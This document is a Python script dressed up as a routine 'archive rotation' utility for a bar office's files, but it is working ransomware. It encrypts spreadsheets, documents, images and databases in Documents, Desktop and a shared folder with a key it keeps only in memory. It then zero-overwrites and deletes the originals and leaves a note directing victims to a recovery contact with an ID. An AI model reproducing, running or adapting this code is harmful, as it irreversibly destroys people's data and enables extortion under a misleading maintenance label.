#!/usr/bin/env python3
"""Quarterly "archive rotation" for the bar office share.

Seals old documents (rotas, invoices, recipes, payroll sheets) into archive
form and removes the loose copies.
"""
import argparse
import logging
import os
import pathlib
from dataclasses import dataclass

from cryptography.fernet import Fernet

log = logging.getLogger("archive_rotation")

DEFAULT_ROOTS = [
    pathlib.Path.home() / "Documents",
    pathlib.Path.home() / "Desktop",
    pathlib.Path(os.environ.get("BAR_SHARE", "/srv/share/office")),
]
SUFFIXES = {".xlsx", ".xls", ".docx", ".pdf", ".csv", ".ods", ".odt", ".jpg", ".png", ".db", ".sqlite"}
SEALED = ".sealed"
NOTE_NAME = "READ_ME_ARCHIVE.txt"
NOTE = """Your files at {root} have been sealed.
{count} documents are no longer readable without the archive key.
To recover them contact recovery-desk@example.org with ID {ident}.
"""


@dataclass
class Sealer:
    key: bytes

    def __post_init__(self):
        self._f = Fernet(self.key)

    def seal(self, path: pathlib.Path) -> pathlib.Path:
        data = path.read_bytes()
        target = path.with_name(path.name + SEALED)
        target.write_bytes(self._f.encrypt(data))
        return target


def candidates(root: pathlib.Path):
    for dirpath, _dirs, files in os.walk(root):
        for name in files:
            p = pathlib.Path(dirpath, name)
            if p.suffix.lower() in SUFFIXES and not name.endswith(SEALED):
                yield p


def scrub(path: pathlib.Path) -> None:
    size = path.stat().st_size
    with path.open("r+b") as fh:
        fh.write(b"\0" * size)
        fh.flush()
        os.fsync(fh.fileno())
    path.unlink()


ACTIONS = {"seal": Sealer.seal, "scrub": scrub}


def rotate(root: pathlib.Path, sealer: Sealer, ident: str) -> int:
    count = 0
    for path in candidates(root):
        try:
            ACTIONS["seal"](sealer, path)
            ACTIONS["scrub"](path)
            count += 1
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)
    if count:
        (root / NOTE_NAME).write_text(NOTE.format(root=root, count=count, ident=ident))
    return count


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("roots", nargs="*", type=pathlib.Path, default=DEFAULT_ROOTS)
    ap.add_argument("--ident", default=os.environ.get("HOSTNAME", "bar-office"))
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    # key lives only in memory for this run
    sealer = Sealer(Fernet.generate_key())
    total = 0
    for root in args.roots:
        if root.is_dir():
            n = rotate(root, sealer, args.ident)
            log.info("%s: %d sealed", root, n)
            total += n
    log.info("archive rotation complete: %d files", total)


if __name__ == "__main__":
    main()
